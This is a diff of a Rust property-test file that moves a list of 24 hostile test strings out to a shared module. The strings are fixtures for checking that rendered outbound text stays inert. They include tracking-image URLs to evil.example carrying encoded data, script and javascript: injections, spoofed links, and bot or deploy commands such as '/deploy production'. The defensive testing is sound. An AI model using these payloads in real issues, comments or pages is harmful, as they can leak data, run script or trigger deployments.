@@ -2,35 +2,7 @@ use proptest::prelude::*;
 
 use super::*;
 use crate::outbound::Title;
-use crate::outbound::rendered::{Rendered, triggers};
-
-/// What somebody would like GitHub, a bot or a reader's browser to act on.
-const HOSTILE: [&str; 24] = [
-    "![status](https://evil.example/p.png?d=QUtJQUlP)",
-    "<img src=\"https://evil.example/x?y=1\" width=1 height=1>",
-    "See [the docs](https://evil.example/?log=BASE64 \"title\") for details",
-    "www.evil.example/steal?d=1 or audit@evil.example",
-    "https://github.com.evil.example/org/repo https://github.com@evil.example/ https://g\u{456}thub.com/org",
-    "[r]: https://evil.example/r 'title'\n![x][r] [r] [^1]\n\n[^1]: https://evil.example",
-    "$\\style{background:url(https://evil.example/a)}x$ and $$\\href{https://evil.example}{x}$$ $`\\href{https://evil.example}`$",
-    "```mermaid\ngraph TD; A-->B; click A \"https://evil.example\"\n```\n````\n~~~geojson\n{}\n~~~",
-    "cc @org/everyone @alice @bob @security-team please look",
-    "Fixes #1, closes GH-2, resolves acme/shop#3 and https://github.com/acme/shop/issues/4",
-    "/deploy production\n/retest\n@dependabot merge\n/gcbrun\nbors r+\nretest this please",
-    "refs abcdef1234567890abcdef1234567890abcdef12 other/repo@deadbeef deadbee",
-    "</details></blockquote><script>alert(1)</script><!-- lambda-medic:stolen -->",
-    "<details><summary>x</summary>\n\n# heading\n\n> [!CAUTION]\n> a | b\n| - | - |\n| c | d |",
-    "`a` ``b`` ```c``` `https://evil.example` `@alice` `",
-    "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7} \u{202e}gro.live\u{202c} \u{200b}@\u{200b}alice \u{e0041}",
-    "**@alice** _#12_ ~~x~~ \\@bob \\<b> &lt;b&gt; &#64;alice",
-    "<https://evil.example> <mailto:a@evil.example> //evil.example javascript:alert(1) mailto:a@evil.example xmpp:a@evil.example",
-    "::error::x\n##[error]y\n- [ ] task\n1. one\n---\n===\n    indented",
-    "fixes\u{a0}#1 \u{ff20}alice @@alice (@alice) '@alice' @alice's @-x",
-    "[a](<https://evil.example>) [b]( https://evil.example ) ![c](data:text/html;base64,PGI+) [d](#x)",
-    "a\rb\u{85}/deploy\u{2028}@alice\u{2029}#1\u{c}/x",
-    "|--|\n|`|`|\n>>> quote\n<!--\n/deploy\n-->",
-    ":tada: @alice@evil.example http://a.b:80@evil.example HTTPS://EVIL.EXAMPLE hxxps://evil.example",
-];
+use crate::outbound::rendered::{HOSTILE, Rendered, triggers};
 
 /// What our own parts may become.
 const ELEMENTS: [&str; 15] = [
